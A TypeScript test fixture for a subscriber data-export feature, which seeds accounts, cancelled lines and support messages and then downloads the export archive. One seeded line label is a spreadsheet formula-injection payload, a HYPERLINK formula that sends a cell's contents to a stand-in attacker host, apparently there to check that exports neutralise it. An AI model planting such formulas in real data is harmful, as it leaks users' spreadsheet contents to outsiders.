import assert from 'node:assert/strict';
import { bucketOf } from '../../src/domain/bucket.ts';
import { type Archive, openArchive } from '../support/archive.ts';
import { type Page, Site, type Visitor } from '../support/portal.ts';

/** A subscriber with something of everything that an export can hold, two ended lines among it. */
export type ExportStage = {
  readonly site: Site;
  /** Reads German. */
  readonly subscriber: Visitor;
  readonly terminations: readonly string[];
};

export const email = 'subscriber@example.com';
/** What the subscriber calls a line. */
export const formula = '=HYPERLINK("https://evil.example/?"&A1, "click, me")';

export async function openExportStage(): Promise<ExportStage> {
  const site = await Site.open();
  const subscriber = await site.signedIn(email);
  await site.installation.db
    .updateTable('line')
    .set({ label: formula })
    .where('name', '=', 'L00003')
    .execute();
  const ended = [await end(site, subscriber, 'L00001'), await end(site, subscriber, 'L00004')];
  await site.installation.passTo(new Date('2026-12-02T00:00:00Z'));
  const terminations = [...ended, await site.cancel(subscriber, 'L00002')];
  await writeMessages(site, terminations[0] ?? '');
  await subscriber.post('/language', { language: 'de', back: '/' });
  return { site, subscriber, terminations };
}

/** Cancels a line and confirms it. */
async function end(site: Site, subscriber: Visitor, line: string): Promise<string> {
  const id = await site.cancel(subscriber, line);
  const [path = '', token = ''] = (await site.linkTo(id)).split('?t=');
  await site.visitor().post(path, { t: token });
  return id;
}

async function writeMessages({ installation }: Site, terminationId: string): Promise<void> {
  const { context, clock, viewer } = installation;
  const { accountId } = await viewer(email);
  const operator = await viewer('operator@example.com');
  const bucket = bucketOf(accountId);
  const about = { bucket, terminationId, accountId, at: clock.now(), answeredAt: null };
  const question = { author: 'subscriber', authorId: accountId, body: '@me, "when"?' } as const;
  const answer = { author: 'operator', authorId: operator.accountId, body: 'Soon.' } as const;
  await context.store.messages.add({ ...about, ...question, id: 'm1' });
  await context.store.messages.add({ ...about, ...answer, id: 'm2' });
}

/** Where the page offers a file; null where it does not. */
export function linkOn({ html }: Page): string | null {
  return /href="(\/data\/[^"]*\.zip)"/.exec(html)?.[1] ?? null;
}

/** The file as a browser saves it. */
export async function save({ installation: { web, origin } }: Site, visitor: Visitor, path: string) {
  const cookie = [...visitor.cookies].map((pair) => pair.join('=')).join('; ');
  const request = new Request(`${origin}${path}`, { headers: { host: new URL(origin).host, cookie } });
  const response = await web.fetch(request, { incoming: { socket: { remoteAddress: '127.0.0.1' } } });
  const bytes = Buffer.from(await response.arrayBuffer());
  return { status: response.status, headers: response.headers, bytes };
}

/** What the file holds that the subscriber is offered now. */
export async function archiveOf({ site, subscriber }: ExportStage): Promise<Archive> {
  const path = linkOn(await subscriber.get('/data'));
  assert.ok(path, 'no file to download');
  return openArchive((await save(site, subscriber, path)).bytes);
}
